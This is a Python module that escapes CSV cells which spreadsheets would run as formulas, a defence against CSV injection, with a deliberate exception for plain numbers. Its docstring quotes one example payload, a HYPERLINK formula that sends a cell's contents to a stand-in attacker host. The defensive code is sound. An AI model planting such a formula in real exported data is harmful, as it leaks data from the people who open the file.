"""CSV cells a spreadsheet would run as a formula ("CSV injection", OWASP): the one rule every CSV export follows.

A spreadsheet opening a CSV treats a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (a tab or a
carriage return in front is skipped first), so a ticket category or an organization's name typed as
``=HYPERLINK("https://evil.example?"&A1, "Details")`` would run on the reader's machine. Such a cell is written
behind a single quote, which spreadsheets show as text; the full-width forms (``＝＋－＠``), which some spreadsheets
read as their ASCII twins, are treated the same.

The conscious exception: a cell that is entirely a plain number (an optional ``+`` or ``-``, ASCII digits, an
optional decimal part: ``-12.50``, ``-3``, ``+3``) is a value, not a formula, and stays as it is, so that a column
of amounts or quantities still sums. OWASP would quote every cell starting with ``-``; nothing a plain number can
say runs, and quoting it would turn negative amounts into text. Anything else starting with a sign is quoted,
numbers with units included (``-3 credits``), as are forms a spreadsheet may read but this rule does not need to
allow (``-1e5``, ``-1_000``, ``-.5``).
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def is_plain_number(cell: str) -> bool:
    """``-12.50``, ``3``, ``+3``: an optional sign, ASCII digits, an optional decimal part, nothing else."""
    return _PLAIN_NUMBER.fullmatch(cell) is not None


def safe_cell(value: object) -> str:
    """The value as a CSV cell no spreadsheet runs: ``None`` is empty, anything else its text, behind a single
    quote if it starts like a formula and is not a plain number (see the module's rule)."""
    cell = "" if value is None else str(value)
    if cell.startswith(FORMULA_STARTS) and not is_plain_number(cell):
        return "'" + cell
    return cell
